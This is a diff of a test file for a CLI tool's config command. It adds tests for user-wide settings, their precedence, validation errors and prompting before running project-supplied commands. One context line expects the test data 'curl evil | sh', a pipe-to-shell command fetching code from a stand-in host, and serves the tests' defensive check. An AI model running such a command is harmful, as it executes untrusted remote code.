@@ -23,6 +23,7 @@ async function relay(args: readonly string[], options: FakeSystemOptions & { rea
     disk,
     config: disk.readText('relaycode.config.json'),
     ran: shell.ran.map(({ command }) => command),
+    notices: terminal.notices,
   }
 }
 
@@ -189,6 +190,103 @@ describe('relay config', () => {
         expect(stderr).toContain('script lint: curl evil | sh')
         expect((await apply(disk)).code).toBe(code)
       }
+    })
+  })
+
+  describe('--user', () => {
+    const own = '/home/me/.config/relaycode/config.json'
+
+    it("sets what is the user's, for all projects", async () => {
+      const { disk, ...first } = await relay(['config', '--user', 'editor', 'code --wait'])
+      expect(first).toMatchObject({ code: 0, stderr: `✔ editor: "code --wait"\n  for all projects, in ${own}\n` })
+      await relay(['config', '--user', 'singleKey', 'true'], { disk })
+      expect(disk.readText(own)).toBe('{\n  "editor": "code --wait",\n  "singleKey": true\n}\n')
+      expect((await relay(['config', '--user', 'singleKey'], { disk })).stdout).toBe('true\n')
+      expect((await relay(['config', '--user', '--unset', 'editor'], { disk })).stderr).toContain(
+        '✔ editor: not set (was "code --wait")',
+      )
+      expect((await relay(['config', '--user'], { disk })).stdout).toMatchInlineSnapshot(`
+        "editor        (not set)
+        singleKey     true
+        clipboard     (not set)
+        notify        (not set)
+        agent         (not set)
+        instructions  (not set)
+        "
+      `)
+    })
+
+    it('needs no project', async () => {
+      const { system, terminal, disk } = fakeSystem({ files: {}, env: { XDG_CONFIG_HOME: '/xdg' } })
+      expect(await main(['config', '--user', 'notify', 'bell'], around(system))).toBe(0)
+      expect(disk.readText('/xdg/relaycode/config.json')).toBe('{\n  "notify": "bell"\n}\n')
+      expect(terminal.stderr).toContain('/xdg/relaycode/config.json')
+    })
+
+    it('lies below the project', async () => {
+      const files = {
+        'relaycode.config.json': '{"projectId": "demo", "notify": "off"}',
+        [own]: '{"notify": "bell", "agent": "codex"}',
+      }
+      const { stdout } = await relay(['config'], { files })
+      expect(stdout).toMatch(/^notify +"off"$/m)
+      expect(stdout).toMatch(/^agent +"codex" {2}\(yours\)$/m)
+      const { disk, stderr } = await relay(['config', 'agent', 'amp'], { files })
+      expect(stderr).toBe('✔ agent: "amp" (was "codex", yours)\n')
+      expect((await relay(['config', '--unset', 'agent'], { disk })).stderr).toBe('✔ agent: not set (was "amp")\n')
+      expect((await relay(['config', 'agent'], { disk })).stdout).toBe('codex\n')
+    })
+
+    it.each([
+      [
+        ['--user', 'linter', 'x'],
+        'There is no key linter for all projects\nHint: It is set for one project: `relay config linter …`',
+      ],
+      [['editor', 'x'], 'There is no key editor\nHint: It is yours, for all projects: `relay config --user editor …`'],
+      [['--user', 'edtor', 'x'], 'There is no key edtor for all projects\nHint: Did you mean editor?'],
+      [['--user', 'singleKey', '1'], 'singleKey: found 1, allowed: true or false'],
+      [
+        ['--user', 'instructions', 'edits'],
+        'instructions: found "edits", allowed: a text for the LLM, at most 20000 long',
+      ],
+      [['--unset'], '--unset takes a key, and no value'],
+      [['--unset', 'linter', 'x'], '--unset takes a key, and no value'],
+      [['--unset', 'projectId'], 'Cannot unset projectId:'],
+    ])('refuses %j', async (args, stderr) => {
+      expect(await relay(['config', ...args])).toMatchObject({
+        code: 2,
+        stderr: expect.stringContaining(stderr),
+        config: text,
+      })
+    })
+
+    it('puts a broken file right, which stops everything else', async () => {
+      const { disk, ...broken } = await relay(['log'], {
+        files: { 'relaycode.config.json': text, [own]: '{"singleKey": "yes"}' },
+      })
+      expect(broken).toMatchObject({ code: 2, stdout: '' })
+      expect(broken.stderr).toBe(
+        `Error: Cannot use ${own}:\n         singleKey: found "yes", allowed: true or false\nHint: Correct it in your editor: ${own}\n`,
+      )
+      expect(await relay(['config', '--user', 'singleKey', 'true'], { disk })).toMatchObject({ code: 0 })
+      expect(await relay(['log'], { disk })).toMatchObject({ code: 0 })
+    })
+
+    it('runs a command of the user without a question, and one of the project after it', async () => {
+      const [users, projects] = ['{"notify": "ring"}', '{"projectId": "demo", "notify": "evil"}']
+      const ask = (files: Readonly<Record<string, string>>) => {
+        const answer = respond({ Makefile: 'all:\n' })
+        return relay(['apply', 'a.md'], { files: { ...files, 'a.md': answer }, answers: ['n', 'n'] })
+      }
+      const own = await ask({
+        'relaycode.config.json': '{"projectId": "demo"}',
+        '/home/me/.config/relaycode/config.json': users,
+      })
+      expect(own.stderr).not.toContain('ring')
+      expect(own.notices).toMatchObject([{ way: 'ring' }, 'over'])
+      const other = await ask({ 'relaycode.config.json': projects, '/home/me/.config/relaycode/config.json': users })
+      expect(other.stderr).toContain('evil')
+      expect(other.notices).toEqual([])
     })
   })
 })
